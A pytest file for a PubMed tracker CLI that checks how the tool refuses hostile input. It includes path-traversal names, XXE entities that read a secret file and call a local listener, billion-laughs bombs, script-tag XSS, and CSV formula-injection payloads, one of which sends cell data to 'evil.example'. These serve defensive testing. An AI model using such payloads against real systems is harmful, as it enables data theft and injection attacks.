"""Hostile and broken input: topic files, options, environment, E-utilities answers, record contents.

Each refusal is one line on stderr with the documented exit code (2 usage or configuration, 1 a topic that
failed after retries), never a traceback, and stored data is unchanged: every table is compared before and
after (a failed fetch adds only its failed `run` rows). Hostile XML is neither expanded nor allowed to fetch
anything; record text reaches HTML, Markdown, CSV and mail only escaped or neutralised.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from datetime import date
from email import message_from_bytes, policy
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from tests.conftest import Result, cli_env, write_topic
from tests.fake_eutils import XML_TYPE, FakeEutils, FakeRecord, _Response
from tests.pubmed_xml import article_xml
from tests.test_faults import assert_consistent, invoke, sql

TODAY = date.today()
DOSING, ELDERLY = "norepinephrine dosing", "norepinephrine elderly"
ONE_LINE_FETCH_FAILURE = re.compile(r"error: (\d of \d topics failed \(.*\)|\w+ failed); what they stored is kept, "
                                    r"and their next run searches the same dates again: run 'tracker fetch' again later")


class HostileEutils(FakeEutils):
    """The fake E-utilities server, answering every esearch or efetch with a given body when one is set."""

    esearch_body: bytes | None = None
    efetch_body: bytes | None = None

    def _esearch(self, params):
        if self.esearch_body is not None:
            return _Response.of(200, XML_TYPE, self.esearch_body)
        return super()._esearch(params)

    def _efetch(self, params, *, expired=False):
        if self.efetch_body is not None:
            return _Response.of(200, XML_TYPE, self.efetch_body)
        return super()._efetch(params, expired=expired)


def add(server: FakeEutils, pmids, query: str, created: date, **fields) -> None:
    server.add(*[FakeRecord(pmid=p, xml=article_xml(p, created=created, **fields), created=created, queries={query})
                 for p in pmids])


@pytest.fixture(scope="module")
def server():
    with HostileEutils() as server:
        yield server


@pytest.fixture(scope="module")
def template(server, tmp_path_factory) -> Path:
    """A home whose database holds two topics' papers; the server then has 5 more papers it has not fetched."""
    home = tmp_path_factory.mktemp("template") / "home"
    write_topic(home, "dosing", DOSING, since="2024-01-01")
    write_topic(home, "elderly", ELDERLY, since="2024-01-01")
    add(server, range(1, 21), DOSING, date(2024, 6, 1))
    add(server, range(21, 31), ELDERLY, date(2024, 6, 1))
    result = invoke(cli_env(home, server.url), "fetch")
    assert result.code == 0, result.err
    add(server, range(101, 106), DOSING, TODAY)
    return home


@pytest.fixture
def populated(template, server, tmp_path) -> Path:
    home = tmp_path / "home"
    shutil.copytree(template, home)
    server.reset_log()
    server.clear_faults()
    server.esearch_body = server.efetch_body = None
    yield home
    server.esearch_body = server.efetch_body = None
    server.clear_faults()


def snapshot(home: Path, *, runs: bool = True) -> dict:
    """Every table's rows (the `run` table only with `runs`) and every file outside db/."""
    tables = {}
    for (name,) in sql(home, "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' "
                             "AND name NOT LIKE 'paper_fts_%'"):
        if runs or name != "run":
            tables[name] = sorted(map(repr, sql(home, f'SELECT * FROM "{name}"')))
    files = {str(p.relative_to(home)): p.read_bytes() for p in sorted(home.rglob("*"))
             if p.is_file() and p.relative_to(home).parts[0] != "db"}
    return {"tables": tables, "files": files}


def assert_one_line(result: Result, code: int, pattern: str) -> None:
    assert result.code == code, (result.out, result.err)
    assert "Traceback" not in result.out + result.err
    lines = result.err.splitlines()
    assert len(lines) == 1, result.err
    assert re.fullmatch(pattern, lines[0]), lines[0]


def assert_fetch_failed(result: Result, reasons: dict[str, str]) -> None:
    """Exit 1, one FAILED line per topic naming its reason, and stderr ending with the one-line error."""
    assert result.code == 1, (result.out, result.err)
    assert "Traceback" not in result.out + result.err
    lines = dict(line.split(": ", 1) for line in result.out.splitlines())
    for slug, reason in reasons.items():
        assert re.fullmatch(rf"FAILED after \d+ requests?, [\d.]+ s: {reason}", lines[slug]), lines[slug]
    errors = result.err.splitlines()
    assert ONE_LINE_FETCH_FAILURE.fullmatch(errors[-1]), result.err
    assert all(e.startswith("attempt ") for e in errors[:-1]), result.err


# -- topic files -----------------------------------------------------------------------------------------

TOPIC_FILES = {
    "malformed TOML": ({"bad.toml": 'title = "Bad"\nquery = "unterminated\n'},
                       r"error: bad\.toml: not valid TOML \(.+\); fix the file or move it out of queries/"),
    "unknown key": ({"bad.toml": 'title = "Bad"\nquery = "q"\nschedul = "0 6 * * *"\n'},
                    r"error: bad\.toml: unknown key 'schedul'; allowed keys are .*"),
    "whitespace query": ({"bad.toml": 'title = "Bad"\nquery = """  \n\t  """\n'},
                         r"error: bad\.toml: key 'query' is missing or empty; give the PubMed query to track"),
    "no query": ({"bad.toml": 'title = "Bad"\n'},
                 r"error: bad\.toml: key 'query' is missing or empty; give the PubMed query to track"),
    "invalid cron": ({"bad.toml": 'title = "Bad"\nquery = "q"\nschedule = "61 * * * *"\n'},
                     r"error: bad\.toml: key 'schedule': .+"),
    "cron that is words": ({"bad.toml": 'title = "Bad"\nquery = "q"\nschedule = "every morning"\n'},
                           r"error: bad\.toml: key 'schedule': .+"),
    "since not a date": ({"bad.toml": 'title = "Bad"\nquery = "q"\nsince = "2020-13-01"\n'},
                         r"error: bad\.toml: key 'since' = '2020-13-01' is not a date; use YYYY-MM-DD"),
    "since a number": ({"bad.toml": 'title = "Bad"\nquery = "q"\nsince = 2020\n'},
                       r"error: bad\.toml: key 'since' must be a date such as 2015-01-01"),
    "since in the future": ({"bad.toml": 'title = "Bad"\nquery = "q"\nsince = 2999-01-01\n'},
                            r"error: bad\.toml: key 'since' = 2999-01-01 is in the future"),
    "other-case twin file": ({"Dosing.toml": 'title = "Twin"\nquery = "another query"\n'},
                             r"error: Dosing\.toml: file name must be a topic slug \(lower-case letters, digits, "
                             r"dashes\) followed by \.toml"),
    "other-case extension": ({"dosing.TOML": 'title = "Twin"\nquery = "another query"\n'},
                             r"error: dosing\.TOML: topic files end in lower-case \.toml; dosing\.toml exists too: "
                             r"remove one of them"),
    "other-case extension alone": ({"sepsis.Toml": 'title = "Sepsis"\nquery = "q"\n'},
                                   r"error: sepsis\.Toml: topic files end in lower-case \.toml; rename it to "
                                   r"sepsis\.toml"),
    "slug with a dot": ({"a.b.toml": 'title = "Dots"\nquery = "q"\n'},
                        r"error: a\.b\.toml: file name must be a topic slug .*"),
    "arrays nested 5,000 deep": ({"bad.toml": 'title = "Bad"\nquery = "q"\nrecipients = ' + "[" * 5000 + "]" * 5000},
                                 r"error: bad\.toml: not valid TOML \(arrays or tables nested too deep to read\); fix "
                                 r"the file or move it out of queries/"),
    "tables nested 5,000 deep": ({"bad.toml": 'title = "Bad"\nquery = "q"\nscreening = ' + "{a = " * 5000 + "1"
                                  + "}" * 5000},
                                 r"error: bad\.toml: not valid TOML \(arrays or tables nested too deep to read\); fix "
                                 r"the file or move it out of queries/"),
}


SKIPPED = r" \(this topic is skipped until the file is fixed; the others are not affected\)"


@pytest.mark.parametrize("case", list(TOPIC_FILES))
def test_a_bad_topic_file_is_one_line_and_skipped_while_the_others_run(case, populated, server):
    files, message = TOPIC_FILES[case]
    for name, text in files.items():
        (populated / "queries" / name).write_text(text, encoding="utf-8")
    env = cli_env(populated, server.url)
    stem = Path(next(iter(files))).stem
    before = snapshot(populated)
    # Asked for by name, the bad topic fails with its error and nothing runs or changes.
    assert_one_line(invoke(env, "fetch", stem), 2, message)
    assert_one_line(invoke(env, "export", stem, "-o", "-"), 2, message)
    assert server.requests == [] and snapshot(populated) == before
    # Over every topic, the bad file is said once, in one line, and skipped; the others run; the exit code is 2.
    for args in (["fetch"], ["run"], ["digest", "--format", "text"], ["export", "-o", "-"], ["email", "--dry-run"]):
        result = invoke({**env, "TRACKER_MAIL_TO": "team@tracker.test"}, *args)
        assert result.code == 2 and "Traceback" not in result.out + result.err, (args, result.err)
        said = [line for line in result.err.splitlines() if line.startswith("error: ")]
        assert len(said) == 1 and re.fullmatch(message + SKIPPED, said[0]), (args, result.err)
    assert "elderly: " in invoke(env, "fetch").out
    listing = invoke(env, "schedule", "--list")  # the scheduler lists the good topics and names the bad file
    assert listing.code == 2 and "fetch:elderly" in listing.out
    assert [line.split(": ")[1] for line in listing.err.splitlines()] == list(files), listing.err


PATHS = [
    (["fetch", "../x"], r"error: unknown topic '\.\./x'; known topics: dosing, elderly"),
    (["fetch", "/etc/passwd"], r"error: unknown topic '/etc/passwd'; known topics: dosing, elderly"),
    (["status", "--topic", "a/b"], r"error: unknown topic 'a/b'; known topics: dosing, elderly"),
    (["search", "x", "--topic", "../dosing"],
     r"error: unknown topic '\.\./dosing'; did you mean 'dosing'\? known topics: dosing, elderly"),
    (["export", "../x", "-o", "-"], r"error: unknown topic '\.\./x'; known topics: dosing, elderly"),
    (["import", "papers.nbib", "--topic", "a/b"], r"error: unknown topic 'a/b'; known topics: dosing, elderly"),
    (["query", "norepinephrine", "--save-as", "../x"],
     r"error: invalid topic name '\.\./x': use lower-case letters, digits and dashes \(for example 'cesarean'\)"),
    (["query", "norepinephrine", "--save-as", "a/b"], r"error: invalid topic name 'a/b': .*"),
    (["query", "norepinephrine", "--save-as", "Dosing"], r"error: invalid topic name 'Dosing': .*"),
    (["query", "norepinephrine", "--save-as", "dosing"],
     r"error: queries/dosing\.toml already exists: choose another name for --save-as"),
]


@pytest.mark.parametrize("args, message", PATHS, ids=[" ".join(a) for a, _ in PATHS])
def test_a_topic_name_with_path_characters_reaches_no_file(args, message, populated, server):
    (populated / "papers.nbib").write_text("PMID- 1\nTI  - A paper.\n\n", encoding="utf-8")
    before = snapshot(populated)
    outside = set(populated.parent.iterdir())
    assert_one_line(invoke(cli_env(populated, server.url), *args), 2, message)
    assert server.requests == []
    assert snapshot(populated) == before and set(populated.parent.iterdir()) == outside


# -- options ---------------------------------------------------------------------------------------------

OPTIONS = [
    (["digest", "nosuch"], r"error: unknown topic 'nosuch'; known topics: dosing, elderly"),
    (["fetch", "--since", "2024-02-30"],
     r"error: Invalid value for '--since': invalid date '2024-02-30': use YYYY-MM-DD, for example 2024-01-31 "
     r"\(see 'tracker fetch --help'\)"),
    (["fetch", "--since", "2999-01-01"],
     r"error: Invalid value for '--since': 2999-01-01 is in the future \(see 'tracker fetch --help'\)"),
    (["digest", "--since", "01/02/2024"], r"error: Invalid value for '--since': invalid date '01/02/2024': .*"),
    (["export", "--since", "last week"], r"error: Invalid value for '--since': invalid date 'last week': .*"),
    (["query", "norepinephrine", "--since", "tomorrow"], r"error: Invalid value for '--since': invalid date .*"),
    (["query", "   "], r"error: the query is empty: give a PubMed query, for example 'norepinephrine AND bolus'"),
    (["search", "x", "--limit", "0"], r"error: Invalid value for '--limit': 0 is not in the range x>=1\. .*"),
    (["digest", "--format", "md", "-o", "out.html"],
     r"error: -o out\.html names a html file but the format is md: pass --format html, or name the file out\.md "
     r"\(see 'tracker digest --help'\)"),
    (["digest", "--format", "html", "-o", "out.txt"],
     r"error: -o out\.txt names a text file but the format is html: .*"),
    (["export", "--format", "ris", "-o", "out.csv"],
     r"error: -o out\.csv names a csv file but the format is ris: pass --format csv, or name the file out\.ris "
     r"\(see 'tracker export --help'\)"),
    (["export", "-o", "library.ris"], r"error: -o library\.ris names a ris file but the format is csv: .*"),
    (["schedule", "--list", "--run-now", "dosing"],
     r"error: --list and --run-now cannot be combined \(see 'tracker schedule --help'\)"),
    (["import", "missing.nbib", "--topic", "dosing"],
     r"error: cannot read missing\.nbib \(No such file or directory\): give the path of a PubMed export"),
    (["search", "AND OR"], r"error: invalid search syntax \(AND OR\): .*"),
]


@pytest.mark.parametrize("args, message", OPTIONS, ids=[" ".join(a) for a, _ in OPTIONS])
def test_bad_options_are_a_one_line_usage_error(args, message, populated, server):
    before = snapshot(populated)
    assert_one_line(invoke(cli_env(populated, server.url), *args), 2, message)
    assert server.requests == []
    assert snapshot(populated) == before
    assert not any(populated.glob("out.*")) and not (populated / "library.ris").exists()


# -- the environment -------------------------------------------------------------------------------------

OUTPUTS = [["export", "dosing", "-o", "{path}.csv"], ["export", "dosing", "--format", "xlsx", "-o", "{path}.xlsx"],
           ["digest", "dosing", "--since", "2020-01-01", "--format", "md", "-o", "{path}.md"],
           ["prisma", "dosing", "--format", "svg", "-o", "{path}.svg"]]


@pytest.mark.parametrize("kind", ["symbolic link", "named pipe", "folder"])
def test_o_refuses_what_is_not_a_regular_file_and_leaves_it_as_it_was(kind, populated, server, tmp_path):
    env = cli_env(populated, server.url)
    kept = tmp_path / "kept.txt"
    kept.write_text("the user's own file\n", encoding="utf-8")
    for args in OUTPUTS:
        if kind == "folder" and args[0] == "digest":
            continue  # its -o is a click.Path(dir_okay=False): click refuses a folder first
        path = tmp_path / f"out-{args[0]}"
        target = Path(args[-1].format(path=path))
        if kind == "symbolic link":
            target.symlink_to(kept)
        elif kind == "named pipe":
            os.mkfifo(target)
        else:
            target.mkdir()
        before = snapshot(populated)
        name = {"symbolic link": "a symbolic link", "named pipe": "a named pipe", "folder": "a folder"}[kind]
        assert_one_line(invoke(env, *[arg.format(path=path) for arg in args]), 2,
                        re.escape(f"error: cannot write {target} (it is {name}, not a regular file, and is left as it "
                                  "is): choose a writable file for -o, or '-' for stdout"))
        assert snapshot(populated) == before
        assert {"symbolic link": target.is_symlink, "named pipe": target.is_fifo, "folder": target.is_dir}[kind]()
        assert kept.read_text(encoding="utf-8") == "the user's own file\n"
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".part")) == []


def test_an_unreachable_eutils_url_fails_the_first_topic_tries_no_other_and_changes_no_data(populated):
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]  # bound, never listening: connections are refused
        before = snapshot(populated, runs=False)
        result = invoke(cli_env(populated, f"http://127.0.0.1:{port}/entrez/eutils/"), "fetch")
    assert result.code == 1 and "Traceback" not in result.out + result.err
    dosing, elderly = result.out.splitlines()
    # Never reached on the run's first request: given up after 2 attempts, not 3, and the next topic is not tried.
    assert re.fullmatch(r"dosing: FAILED after 2 requests, [\d.]+ s: esearch failed after 2 "
                        r"attempts: connection failed \(ConnectError: .*\)", dosing), dosing
    assert elderly == "elderly: not tried: E-utilities unreachable"
    assert result.err.splitlines() == ["error: cannot reach 127.0.0.1 (connection refused): check the network, a "
                                       "proxy (HTTPS_PROXY) or TRACKER_EUTILS_URL"]
    assert snapshot(populated, runs=False) == before
    assert sql(populated, "SELECT topic, status FROM run WHERE id > 2 ORDER BY id") == [("dosing", "failed")]


def test_an_invalid_api_key_is_not_retried_and_never_shown(populated, server):
    key = "SENTINEL-BAD-KEY-98f1"
    server.inject("400-api-key", times=100)
    before = snapshot(populated, runs=False)
    result = invoke(cli_env(populated, server.url, NCBI_API_KEY=key), "fetch")
    reason = r"NCBI rejected the API key \(HTTP 400\): check NCBI_API_KEY, or unset it to run at 3 requests/s"
    assert_fetch_failed(result, {"dosing": reason, "elderly": reason})
    assert len(server.requests) == 2  # one request per topic: a rejected key is not retried
    assert key not in result.out + result.err
    assert snapshot(populated, runs=False) == before


def test_a_file_that_is_not_sqlite_is_refused_unchanged(populated, server):
    database = populated / "db" / "tracker.sqlite3"
    for suffix in ("-wal", "-shm"):
        Path(f"{database}{suffix}").unlink(missing_ok=True)
    database.write_bytes(b"PK\x03\x04 this is a zip file, not a database" * 100)
    original = database.read_bytes()
    for args in (["fetch"], ["status"], ["export", "-o", "-"], ["search", "x"]):
        assert_one_line(invoke(cli_env(populated, server.url), *args), 2,
                        rf"error: {re.escape(str(database))} is not a usable SQLite database \(file is not a "
                        r"database\): move it aside or set TRACKER_DB_URL")
    assert database.read_bytes() == original and server.requests == []


def test_a_truncated_database_is_refused_unchanged(populated, server):
    database = populated / "db" / "tracker.sqlite3"
    sql(populated, "PRAGMA wal_checkpoint(TRUNCATE)")
    data = database.read_bytes()
    database.write_bytes(data[: len(data) // 2])
    original = database.read_bytes()
    for args in (["status"], ["fetch"], ["export", "-o", "-"], ["search", "norepinephrine"], ["topics"]):
        result = invoke(cli_env(populated, server.url), *args)
        assert_one_line(result, 2, rf"error: {re.escape(str(database))} is not a usable SQLite database \(.*\): "
                                   r"move it aside or set TRACKER_DB_URL")
    assert database.read_bytes() == original


def test_a_database_error_the_library_did_not_expect_is_one_line_not_a_traceback(populated, server):
    sql(populated, "DROP TABLE digest")  # damaged by hand: the schema version still says all is there
    before = snapshot(populated)
    result = invoke(cli_env(populated, server.url), "digest", "dosing", "-o", "-")
    assert_one_line(result, 1, r"error: the database failed \(no such table: digest\): nothing past the last "
                               r"committed step was changed; try again, and if it persists check TRACKER_DB_URL "
                               r"and the database server \(tracker -v shows more\)")
    assert snapshot(populated) == before


def test_a_database_from_a_newer_tracker_is_refused_unchanged(populated, server):
    sql(populated, "UPDATE tracker_schema SET version = 99")
    before = snapshot(populated)
    for args in (["fetch"], ["status"], ["email", "--dry-run"], ["schedule", "--run-now", "dosing"]):
        assert_one_line(invoke(cli_env(populated, server.url), *args), 2,
                        r"error: .*tracker\.sqlite3 was written by a newer tracker \(schema 99, this one knows \d+\): "
                        r"upgrade tracker with 'pip install -U tracker'")
    assert snapshot(populated) == before and server.requests == []


def as_nobody(home: Path, env: dict[str, str], *args: str) -> Result:
    done = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-m",
                           "tracker", *args], env={**env, "HOME": str(home)}, cwd=home, capture_output=True,
                          text=True, timeout=120)
    return Result(done.returncode, done.stdout, done.stderr)


@pytest.fixture
def nobody_home(template):
    """A copy of the template home owned by root where the user nobody can read the topics, nothing more."""
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is needed to run the tracker as another user")
    root = Path(tempfile.mkdtemp(prefix="tracker-nobody-"))
    try:
        root.chmod(0o755)
        home = root / "home"
        shutil.copytree(template, home)
        for path in [home, *home.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
        probe = as_nobody(home, {"PATH": "/usr/bin:/bin"}, "--help")
        if probe.code != 0:
            pytest.skip(f"the user nobody cannot run this Python ({probe.err.strip()[-200:]})")
        yield home
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_an_unwritable_database_folder_is_one_line_and_exit_2(nobody_home, server):
    home, database = nobody_home, nobody_home / "db" / "tracker.sqlite3"
    env = cli_env(home, server.url)
    before = snapshot(home)
    database.chmod(0o644)  # readable, not writable, by nobody
    result = as_nobody(home, env, "fetch")
    assert_one_line(result, 2, rf"error: the database at {re.escape(str(database))} is not writable: fix the "
                               rf"permissions of {re.escape(str(database.parent))} or set TRACKER_DB_URL")
    (home / "db").chmod(0o700)  # not even visible to nobody
    for args in (["fetch"], ["status"]):
        result = as_nobody(home, env, *args)
        assert_one_line(result, 2, rf"error: cannot create the database at {re.escape(str(database))} \(Permission "
                                   rf"denied\): make {re.escape(str(database.parent))} writable or set TRACKER_DB_URL")
    shutil.rmtree(home / "db")  # a fresh home whose folder nobody may not write
    result = as_nobody(home, env, "fetch")
    assert_one_line(result, 2, rf"error: cannot create the database at {re.escape(str(database))} \(Permission "
                               rf"denied\): make {re.escape(str(database.parent))} writable or set TRACKER_DB_URL")
    assert server.requests == []
    assert {k: v for k, v in snapshot_files(home).items()} == before["files"]


def snapshot_files(home: Path) -> dict:
    return {str(p.relative_to(home)): p.read_bytes() for p in sorted(home.rglob("*"))
            if p.is_file() and p.relative_to(home).parts[0] != "db"}


# -- hostile answers -------------------------------------------------------------------------------------

@pytest.fixture
def listener():
    """A local TCP port standing in for an attacker's server: it must never see a connection."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server
    server.close()


def connections(listener: socket.socket) -> int:
    count = 0
    while True:
        try:
            accepted, _ = listener.accept()
        except BlockingIOError:
            return count
        accepted.close()
        count += 1


def efetch_set(records: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<PubmedArticleSet>{records}</PubmedArticleSet>\n'.encode()


BILLION_LAUGHS = ('<!ENTITY lol0 "lol">'
                  + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)))


def everything_written(home: Path, result: Result) -> bytes:
    return (result.out + result.err).encode() + b"".join(p.read_bytes() for p in home.rglob("*") if p.is_file())


def hostile_fetch(populated: Path, server: HostileEutils, **bodies: bytes) -> tuple[Result, dict]:
    for name, body in bodies.items():
        setattr(server, name, body)
    before = snapshot(populated, runs=False)
    started = time.monotonic()
    result = invoke(cli_env(populated, server.url), "fetch", "dosing")
    assert time.monotonic() - started < 30
    return result, before


@pytest.mark.parametrize("where", ["efetch", "esearch"])
def test_an_external_entity_is_never_resolved_nor_fetched(where, populated, server, listener, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT-4411", encoding="utf-8")
    port = listener.getsockname()[1]
    doctype = (f'<!DOCTYPE {"PubmedArticleSet" if where == "efetch" else "eSearchResult"} [\n'
               f'<!ENTITY file SYSTEM "{secret.as_uri()}">\n<!ENTITY remote SYSTEM "http://127.0.0.1:{port}/leak">\n]>\n')
    if where == "efetch":
        body = efetch_set(article_xml(101, created=TODAY, title="Leak &file; and &remote;"), doctype)
    else:
        body = (f'<?xml version="1.0"?>\n{doctype}<eSearchResult><Count>1</Count><IdList><Id>101</Id></IdList>'
                "<QueryTranslation>&file;&remote;</QueryTranslation></eSearchResult>").encode()
    result, before = hostile_fetch(populated, server, **{f"{where}_body": body})
    assert_fetch_failed(result, {"dosing": rf"{where} failed after 3 attempts: {where} XML declares its own "
                                           r"entities \(<!ENTITY>\): refused"})
    assert b"TOP-SECRET-CONTENT-4411" not in everything_written(populated, result)
    assert connections(listener) == 0
    assert snapshot(populated, runs=False) == before


@pytest.mark.parametrize("bomb", ["billion laughs", "quadratic blowup"])
@pytest.mark.parametrize("where", ["efetch", "esearch"])
def test_an_entity_bomb_is_refused_without_expanding(bomb, where, populated, server):
    if bomb == "billion laughs":
        declarations, reference = BILLION_LAUGHS, "&lol9;"
    else:
        declarations, reference = f'<!ENTITY big "{"x" * 50_000}">', "&big;" * 20_000
    root = "PubmedArticleSet" if where == "efetch" else "eSearchResult"
    doctype = f"<!DOCTYPE {root} [{declarations}]>\n"
    if where == "efetch":
        body = efetch_set(article_xml(101, created=TODAY, title=f"Laugh {reference}"), doctype)
    else:
        body = (f'<?xml version="1.0"?>\n{doctype}<eSearchResult><Count>1</Count><IdList><Id>101</Id></IdList>'
                f"<QueryTranslation>{reference}</QueryTranslation></eSearchResult>").encode()
    result, before = hostile_fetch(populated, server, **{f"{where}_body": body})
    # libxml2's own amplification limit may refuse an esearch body before tracker's check sees it.
    assert_fetch_failed(result, {"dosing": rf"{where} failed after 3 attempts: ({where} XML declares its own "
                                           r"entities \(<!ENTITY>\): refused|esearch body is not valid XML "
                                           r"\(Maximum entity amplification factor exceeded.*\))"})
    written = everything_written(populated, result)
    assert b"lollollol" not in written and b"x" * 60_000 not in written
    assert snapshot(populated, runs=False) == before


def test_a_remote_dtd_is_never_fetched(populated, server, listener):
    port = listener.getsockname()[1]
    doctype = f'<!DOCTYPE PubmedArticleSet SYSTEM "http://127.0.0.1:{port}/pubmed.dtd">\n'
    records = "".join(article_xml(p, created=TODAY) for p in range(101, 106))
    result, _ = hostile_fetch(populated, server, efetch_body=efetch_set(records, doctype))
    assert result.code == 0, result.err
    assert result.out.startswith("dosing: 5 new, 5 matched")
    assert connections(listener) == 0
    assert_consistent(populated)


def test_a_local_dtd_is_never_read(populated, server, tmp_path):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leak "LEAKED-FROM-DTD"><!ATTLIST PubmedArticle Injected CDATA "yes">', encoding="utf-8")
    doctype = f'<!DOCTYPE PubmedArticleSet SYSTEM "{dtd.as_uri()}">\n'
    records = article_xml(101, created=TODAY, title="A &leak; b") + "".join(
        article_xml(p, created=TODAY) for p in range(102, 106))
    result, _ = hostile_fetch(populated, server, efetch_body=efetch_set(records, doctype))
    # An entity only an external DTD could define stays undefined, which XML allows: the record is kept
    # without it, and nothing of the DTD reaches a record.
    assert result.code == 0 and result.out.startswith("dosing: 5 new, 5 matched"), result.out + result.err
    [(title,)] = sql(populated, "SELECT title FROM paper WHERE pmid = 101")
    assert "LEAKED" not in title
    assert b"LEAKED-FROM-DTD" not in everything_written(populated, result).replace(dtd.read_bytes(), b"")
    assert b"Injected" not in everything_written(populated, result).replace(dtd.read_bytes(), b"")


BROKEN_BODIES = {
    "JSON": (b'{"error":"API rate limit exceeded","count":"11"}', r"expected PubMed XML \(PubmedArticleSet\), got .*"),
    "plain text": (b"Service Temporarily Unavailable\n", r"expected PubMed XML \(PubmedArticleSet\), got .*"),
    "binary": (bytes(range(256)) * 8, r"expected PubMed XML \(PubmedArticleSet\), got .*"),
    "another XML document": (b'<?xml version="1.0"?><rss><channel/></rss>',
                             r"expected PubMed XML \(PubmedArticleSet\), got <rss>.*"),
    "a record without its PMID": (efetch_set(article_xml(101, created=TODAY).replace(
        '<PMID Version="1">101</PMID>', "")), r"a PubmedArticle without a PMID \(record 1 of the efetch body\)"),
    "a record with a word for a PMID": (efetch_set(article_xml(101, created=TODAY).replace(
        '<PMID Version="1">101</PMID>', '<PMID Version="1">one</PMID>')), r"a PubmedArticle with a non-numeric PMID.*"),
}


@pytest.mark.parametrize("case", list(BROKEN_BODIES))
def test_a_broken_efetch_body_fails_the_topic_after_retries_and_stores_nothing(case, populated, server):
    body, reason = BROKEN_BODIES[case]
    result, before = hostile_fetch(populated, server, efetch_body=body)
    assert_fetch_failed(result, {"dosing": rf"efetch failed after 3 attempts: {reason}"})
    assert server.count("efetch") == 3
    assert snapshot(populated, runs=False) == before


BROKEN_SEARCHES = {
    "a Count that is no number": b"<eSearchResult><Count>many</Count><IdList/></eSearchResult>",
    "an Id that is no number": b"<eSearchResult><Count>1</Count><IdList><Id>1e5</Id></IdList></eSearchResult>",
    "an empty Id": b"<eSearchResult><Count>1</Count><IdList><Id/></IdList></eSearchResult>",
}


@pytest.mark.parametrize("case", list(BROKEN_SEARCHES))
def test_a_damaged_esearch_answer_fails_the_topic_after_retries(case, populated, server):
    result, before = hostile_fetch(populated, server, esearch_body=BROKEN_SEARCHES[case])
    assert_fetch_failed(result, {"dosing": r"esearch failed after 3 attempts: esearch answer has a <Count> or <Id> "
                                           r"that is not a number; the body is damaged"})
    assert snapshot(populated, runs=False) == before


# -- record text in reports, exports and mail --------------------------------------------------------------

SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_record_text_is_escaped_in_reports_and_mail_and_neutralised_in_csv(populated, server):
    add(server, [201], DOSING, TODAY, title=escape(f"{SCRIPT} Bolus <img src=x onerror=alert(1)>"),
        abstract=escape(f"{SCRIPT} abstract"), authors=("=cmd|' /C calc'!A0", "Jones B"), journal=FORMULA)
    add(server, [202], DOSING, TODAY, title=escape(FORMULA), keywords=("+SUM(1,2)",), authors=("@Smith J",),
        journal="-2+3")
    env = cli_env(populated, server.url, TRACKER_MAIL_TO="team@example.org")
    result = invoke(env, "run", "dosing")
    assert result.code == 0, result.err

    html = next((populated / "reports" / "dosing").glob("*.html")).read_text(encoding="utf-8")
    markdown = next((populated / "reports" / "dosing").glob("*.md")).read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "<img src=x" not in html.lower()
    assert "&lt;script&gt;alert(" in html and "&lt;img src=x" in html
    assert not re.search(r"(?<!\\)</?(script|img)", markdown, re.IGNORECASE)  # Markdown escapes with "\\"
    assert "\\<script\\>" in markdown

    exported = invoke(env, "export", "dosing", "-o", "-")
    assert exported.code == 0
    check_csv(exported.out)
    for args in (["screen", "list", "dosing", "--format", "csv"], ["search", "bolus OR sum", "--format", "csv"]):
        printed = invoke(env, *args)
        cells = {cell for row in list(csv.reader(io.StringIO(printed.out)))[1:] for cell in row if cell}
        assert printed.code == 0 and not [cell for cell in cells if cell[0] in "=+-@\t\r"], printed.out
        assert "'" + FORMULA in cells, printed.out

    mailed = invoke(env, "email", "--dry-run")
    assert mailed.code == 0, mailed.err
    [path] = [Path(line) for line in mailed.out.splitlines()]
    message = message_from_bytes(path.read_bytes(), policy=policy.default)
    body = message.get_body(("html",)).get_content()
    assert "<script" not in body.lower() and "<img src=x" not in body.lower() and "&lt;script&gt;" in body
    assert SCRIPT in message.get_body(("plain",)).get_content()  # plain text shows it as the text it is
    [table] = [part for part in message.walk() if part.get_content_type() == "text/csv"]
    check_csv(table.get_content())


def check_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    cells = {cell for row in rows[1:] for cell in row if cell}
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], text
    for dangerous in (FORMULA, "=cmd|' /C calc'!A0", "+SUM(1,2)", "@Smith J", "-2+3"):
        assert any(cell.startswith("'" + dangerous[:5]) or "'" + dangerous in cell for cell in cells), dangerous
